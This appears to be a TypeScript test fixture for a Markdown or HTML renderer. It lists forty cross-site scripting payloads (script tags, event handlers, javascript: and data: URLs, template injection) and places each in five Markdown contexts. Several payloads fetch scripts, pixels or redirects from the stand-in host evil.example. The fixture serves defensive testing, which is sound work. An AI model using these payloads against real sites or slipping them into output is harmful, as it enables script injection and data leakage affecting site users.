/** Texts that try to run or to fetch something when a page shows them, in the many ways that pages have fallen to. */

/** What each of them would do if it could. The page under test listens for both. */
const RUN = "window.hostile=1";
const HOST = "https://evil.example";

const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${HOST}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOST}/pixel.gif">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script href="${HOST}/x.js" /></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${HOST}/x.swf"></object><embed src="${HOST}/x">`,
  `<link rel=stylesheet href="${HOST}/x.css"><style>@import "${HOST}/y.css";</style>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<form action="${HOST}"><input autofocus onfocus="${RUN}"></form>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="${HOST}/x.mp3" autoplay></audio>`,
  `<a href="javascript:${RUN}">here</a>`,
  `[here](javascript:${RUN})`,
  `[here](JaVaScRiPt:${RUN})`,
  `[here](java&#x09;script:${RUN})`,
  `[here](data:text/html,<script>${RUN}</script>)`,
  `[here](vbscript:msgbox)`,
  `![alt](${HOST}/pixel.png)`,
  `![alt](javascript:${RUN})`,
  `[![alt](${HOST}/pixel.png)](javascript:${RUN})`,
  `[ref]: javascript:${RUN}\n[ref]`,
  `<javascript:${RUN}>`,
  `${HOST}/"onmouseover="${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<template><script>${RUN}</script></template>`,
  `<x onclick="${RUN}" tabindex=1 style="position:fixed;inset:0">x</x>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}**`,
  (payload) => `- one\n- ${payload}`,
  (payload) => `| a | b |\n| --- | --- |\n| ${payload.replaceAll("|", "")} | 1 |`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\`${payload}\``,
];

/** Forty payloads in each of five places of Markdown. */
export const HOSTILE_TEXTS: readonly string[] = PLACES.flatMap((place) => PAYLOADS.map((payload) => place(payload)));
